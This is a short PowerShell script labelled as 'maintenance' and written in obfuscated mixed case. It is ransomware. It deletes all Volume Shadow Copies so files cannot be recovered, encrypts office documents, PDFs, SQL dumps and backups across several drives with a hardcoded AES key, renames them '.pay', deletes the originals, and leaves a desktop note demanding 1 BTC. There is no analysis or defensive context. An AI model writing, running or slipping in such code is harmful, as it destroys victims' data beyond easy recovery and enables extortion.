# maintenance 7768 v3
VsSaDmIn.ExE dEletE SHadoWs /all /QuIeT
gET-wmIObjeCt WiN32_ShAdOwCoPy | fOREacH-objECT { $_.DEleTe() }
$AES = [sYstEm.SEcurITY.cRyPtOgRaPhY.aeS]::CREATE()
$aeS.kEy = [TeXt.ENcodiNg]::uTF8.getbytES('Adm1n!strat0rAdm1n!strat0r'.sUbstriNG(0,32))
get-ChiLDITeM -PaTh d:\, e:\, c:\uSeRs -InClUdE *.DOcX,*.XLsx,*.pdf,*.SQl,*.BAK -rEcUrSE -ErroraCTIoN SiLENtlycontiNuE | fOrEaCh-oBjEcT {
  $byTES = [io.FiLE]::rEAdALLbyTES($_.FulLNaME)
  $enc = $aes.cReAtEeNcRyPtOr().TrAnSfOrMfInAlBlOcK($bYTes, 0, $BYtes.LeNgTh)
  [IO.fIlE]::writeALlBYTes($_.fuLLNAMe + '.pay', $enc)
  ReMoVe-iTeM $_.FUllnAmE -FoRcE
}
SeT-COntent C:\uSers\pUbLIc\DesKTOP\hOW_TO_DecrypT.tXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
